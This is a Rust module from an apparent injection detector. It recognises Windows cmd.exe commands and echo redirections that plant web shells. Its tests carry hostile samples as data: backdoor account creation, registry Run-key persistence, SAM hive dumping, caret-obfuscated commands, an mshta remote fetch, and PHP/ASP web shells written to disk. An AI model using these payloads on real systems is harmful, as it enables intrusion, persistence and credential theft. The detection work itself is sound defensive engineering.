//! Command lines of two kinds that words alone do not tell from prose: cmd.exe's commands
//! (Windows tools by name, and `net`, `reg`, `dir`, `del` only with arguments shaped like their
//! own: a subcommand, a `/switch`, a drive path, a registry hive), and an `echo` whose output
//! is redirected into a script file (a web shell written to disk). The command-position
//! machinery of [`super`] asks them once it has a command's name and its arguments.

use crate::detect::words::word_list;
use crate::detect::wordset::WordSet;

word_list! {
    /// Windows programs an intruder runs to look around and to stay (`ipconfig`, `tasklist`,
    /// `schtasks /create`, `vssadmin`): no English word or name, so matched at any command
    /// position as [`super::words::COMMANDS`] are. (Those that are words, `net`, `dir`, `reg`, have
    /// [`windows_command`].)
    WINDOWS_COMMANDS = "windows-commands"
}

/// [`WINDOWS_COMMANDS`] as a set.
pub(super) static WINDOWS_COMMAND_SET: WordSet = WordSet::new(&WINDOWS_COMMANDS);

word_list! {
    /// `net`'s subcommands that list or change accounts, groups, shares, sessions and services.
    NET_SUBCOMMANDS = "windows-net-subcommands"
}

word_list! {
    /// `reg`'s subcommands (each names a registry key next).
    REG_SUBCOMMANDS = "windows-reg-subcommands"
}

word_list! {
    /// `sc`'s subcommands that list, create or change services.
    SC_SUBCOMMANDS = "windows-sc-subcommands"
}

/// cmd.exe commands that are English words too, with the arguments that make them a command
/// (`None`: `name` is none of them). `net` and `sc` need a subcommand of theirs (`net user`,
/// `net localgroup`, `sc query`) and then nothing more, or an argument shaped like a Windows
/// command's own ([`windows_arguments`]: `/add`, `c:\`, `hklm\`), `reg` a subcommand and such
/// an argument, `dir` nothing more or such an argument, and `del`, `copy`, `move`, `rd`,
/// `attrib`, `tree` such an argument. "salt & net weight", "R&D dir list", "Ctrl & Del" are
/// not commands. `at_value_start`: the word starts the value, which is ordinary input unless
/// a shaped argument follows (`net view` alone is not read as a command there), but
/// `net localgroup`, a word of no sentence, is.
pub(super) fn windows_command(name: &str, args: &str, at_value_start: bool) -> Option<bool> {
    let arg = within(args, ARGUMENT_REACH).trim_start_matches([' ', '\t']);
    let sub_end = arg
        .find(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '<' | '>'))
        .unwrap_or(arg.len());
    let sub = arg.get(..sub_end).unwrap_or_default();
    let after_sub = arg.get(sub_end..).unwrap_or_default();
    let fits = match name {
        "net" => {
            NET_SUBCOMMANDS.contains(&sub)
                && (sub == "localgroup" || windows_arguments(after_sub, !at_value_start))
        }
        "sc" => SC_SUBCOMMANDS.contains(&sub) && windows_arguments(after_sub, !at_value_start),
        "reg" => REG_SUBCOMMANDS.contains(&sub) && windows_arguments(after_sub, false),
        "dir" => windows_arguments(args, !at_value_start),
        "del" | "erase" | "copy" | "move" | "rd" | "rmdir" | "attrib" | "tree" => {
            windows_arguments(args, false)
        }
        _ => return None,
    };
    Some(fits)
}

/// How far the arguments of a Windows command are read: a command line is short, and reading
/// no further keeps a value of many command positions linear.
pub(super) const ARGUMENT_REACH: usize = 256;

/// `text` cut to at most `reach` bytes (at a character boundary).
pub(super) fn within(text: &str, reach: usize) -> &str {
    let mut end = text.len().min(reach);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or_default()
}

/// The arguments of a cmd.exe command up to the command's end (an unquoted `;`, `|`, `&`, line
/// break or redirection; at most [`ARGUMENT_REACH`] bytes): whether one is shaped like a
/// Windows command's own ([`windows_shaped`]), or, `empty_ok`, whether there are none.
pub(super) fn windows_arguments(args: &str, empty_ok: bool) -> bool {
    let bytes = within(args, ARGUMENT_REACH).as_bytes();
    let mut quoted = false;
    let mut word_start = true;
    let mut any = false;
    for (i, &b) in bytes.iter().enumerate() {
        if b == b'"' {
            quoted = !quoted;
            word_start = true;
        } else if !quoted && matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'<' | b'>') {
            break;
        } else if b.is_ascii_whitespace() {
            word_start = true;
        } else {
            if word_start && windows_shaped(bytes.get(i..).unwrap_or_default()) {
                return true;
            }
            word_start = false;
            any = true;
        }
    }
    empty_ok && !any
}

/// A word shaped like a Windows command's argument: a switch (`/all`, `/add`, `/v`, `/?`,
/// `/t:x`; not a path, `/etc/x`), a drive path (`c:\`), a share (`\\host`), a batch
/// variable (`%systemroot%`) or a registry hive (`hklm\`, `hkcu:`, `hkey_local_machine`).
pub(super) fn windows_shaped(word: &[u8]) -> bool {
    match word {
        [b'/', b'?', ..] => true,
        [b'/', rest @ ..] => {
            let letters = rest.iter().take_while(|b| b.is_ascii_alphabetic()).count();
            (1..=16).contains(&letters)
                && rest.get(letters).is_none_or(|&c| {
                    c.is_ascii_whitespace()
                        || matches!(c, b':' | b'"' | b';' | b'|' | b'&' | b'<' | b'>')
                })
        }
        [d, b':', b'\\', ..] => d.is_ascii_alphabetic(),
        [b'\\', b'\\', c, ..] => c.is_ascii_alphanumeric(),
        [b'%', rest @ ..] => {
            let name = rest
                .iter()
                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                .count();
            name > 0 && rest.get(name) == Some(&b'%')
        }
        _ => {
            word.starts_with(b"hkey_")
                || [b"hklm".as_slice(), b"hkcu", b"hkcr", b"hkcc", b"hku"]
                    .iter()
                    .any(|hive| {
                        word.strip_prefix(*hive)
                            .is_some_and(|r| matches!(r.first(), Some(b'\\' | b':')))
                    })
        }
    }
}

/// How far an `echo`'s arguments are read for a redirection: a web shell is a line of code.
const ECHO_REACH: usize = 512;

word_list! {
    /// Files an `echo` writes to have them run or trusted later: server pages and scripts
    /// (`.php`, `.jsp`, `.aspx`, `.sh`, `.ps1`, `.bat`), by extension.
    SCRIPT_EXTENSIONS = "script-extensions"
}

/// An `echo` whose output a redirection (`>`, `>>`, outside quotes, before the command ends)
/// sends to a script file ([`SCRIPT_EXTENSIONS`]), to `.htaccess` or to `authorized_keys`:
/// `echo "<?php system($_GET['c']); ?>" > c.php`. The quoted text is skipped whole, with the
/// `;` and `|` a web shell holds. (At most [`ECHO_REACH`] bytes are read.)
pub(super) fn echo_writes_script(args: &str) -> bool {
    let bytes = within(args, ECHO_REACH).as_bytes();
    let mut quote: Option<u8> = None;
    let mut i = 0;
    while let Some(&b) = bytes.get(i) {
        match (quote, b) {
            (Some(b'"'), b'\\') => i += 1,
            (Some(q), _) if b == q => quote = None,
            (Some(_), _) => {}
            (None, b'\'' | b'"') => quote = Some(b),
            (None, b'\\') => i += 1,
            (None, b';' | b'|' | b'&' | b'\n' | b'\r') => return false,
            (None, b'>') if redirects_to_script(bytes.get(i + 1..).unwrap_or_default()) => {
                return true
            }
            _ => {}
        }
        i += 1;
    }
    false
}

/// Whether the target of a redirection (after its `>`) is a script file, `.htaccess` or
/// `authorized_keys`.
fn redirects_to_script(after: &[u8]) -> bool {
    let start = after
        .iter()
        .position(|&b| !(b == b'>' || b.is_ascii_whitespace()))
        .unwrap_or(after.len());
    let target = after.get(start..).unwrap_or_default();
    let end = target
        .iter()
        .position(|&b| b.is_ascii_whitespace() || matches!(b, b';' | b'|' | b'&' | b'<' | b'>'))
        .unwrap_or(target.len());
    let target = target.get(..end).unwrap_or_default();
    let file = target
        .rsplit(|&b| matches!(b, b'/' | b'\\'))
        .next()
        .unwrap_or_default();
    let file: Vec<u8> = file
        .iter()
        .copied()
        .filter(|b| !matches!(b, b'\'' | b'"'))
        .collect();
    if file == b".htaccess" || file == b"authorized_keys" {
        return true;
    }
    let Some(dot) = file.iter().rposition(|&b| b == b'.') else {
        return false;
    };
    let extension = file.get(dot + 1..).unwrap_or_default();
    dot > 0 && SCRIPT_EXTENSIONS.iter().any(|e| e.as_bytes() == extension)
}

#[cfg(test)]
mod tests {
    use super::super::tests::ids;

    #[test]
    fn windows_commands_at_a_command_position() {
        for v in [
            "& ipconfig /all",
            "x| TaskList /V",
            "a;systeminfo",
            "1 && schtasks /create /tn x /tr c:\\x.exe /sc onlogon",
            "& net user bob Secret1 /ADD",
            "x &&  NET   LocalGroup administrators bob /add",
            "; net localgroup administrators",
            "| net view",
            "& net share",
            "x&net use \\\\10.0.0.1\\c$",
            "a & net user",
            "&& reg add \"HKLM\\Software\\x\" /v run /t REG_SZ /d c:\\x.exe /f",
            "; reg query hkcu\\software",
            "| reg save HKEY_LOCAL_MACHINE\\SAM sam.hiv",
            "& sc query",
            "; sc create evil binpath= c:\\x.exe",
            "| dir",
            "&& dir C:\\Users",
            "; dir /s /b",
            "x & dir %USERPROFILE%",
            "& del /f /q c:\\x",
            "& attrib +h c:\\x.exe",
            "& copy \\\\host\\share\\x.exe %TEMP%",
            "; mshta http://x/a.hta",
            // cmd.exe's caret escapes.
            "& n^et us^er bob x /a^dd",
            "| ip^config /all",
            "& who^ami",
            // At the start of a value, with a switch, a drive or a hive.
            "ipconfig /all",
            "net user bob Secret1 /add",
            "net localgroup administrators bob",
            "reg add \"HKLM\\x\" /v y /d 0 /f",
            "dir c:\\",
            "type C:\\Windows\\repair\\SAM",
            "tasklist /svc",
        ] {
            assert!(ids(v).contains(&"rce-001"), "{v}: {:?}", ids(v));
        }
        for v in [
            "Tom & Jerry",
            "salt & net weight 5 kg",
            "gross & net sales",
            "gross & net; user guide",
            "R&D dir list",
            "Marketing & Dir. of Sales",
            "type A & type B",
            "Ctrl & Del",
            "cut & copy / paste",
            "search & copy the text",
            "Sales & Net User Growth",
            "net view of the market",
            "net user growth",
            "dir listing is off",
            "the dir c is empty",
            "R & D & reg. office",
            "https://example.com/?a=1&dir=asc",
            "https://example.com/net/user?id=1",
            "Tree & Leaf",
            "salt & pepper; type /help",
            "Net & Dir Studio",
            "dir /etc/passwd-style paths",
        ] {
            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
        }
    }

    #[test]
    fn echo_into_a_script_file() {
        for v in [
            "; echo \"<?php system($_GET['cmd']); ?>\" > cmd.php",
            "| echo \"<?php include($_GET['p'])| ?>\" > rfi.php",
            "&& ECHO '<% eval request(\"x\") %>' >> /var/www/html/x.asp",
            "x; echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
            "; echo AddType application/x-httpd-php .jpg > .htaccess",
            "echo \"<?php phpinfo(); ?>\" > info.php",
        ] {
            assert!(ids(v).contains(&"rce-001"), "{v}: {:?}", ids(v));
        }
        for v in [
            "; echo hello > notes.txt",
            "echo is a sound > noise",
            "say; echo \"a > b.php\" then",
            "echo \"x\"; y > z.php",
            "the echo > 5 php",
            "echo chamber > 1.5x",
        ] {
            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
        }
    }
}
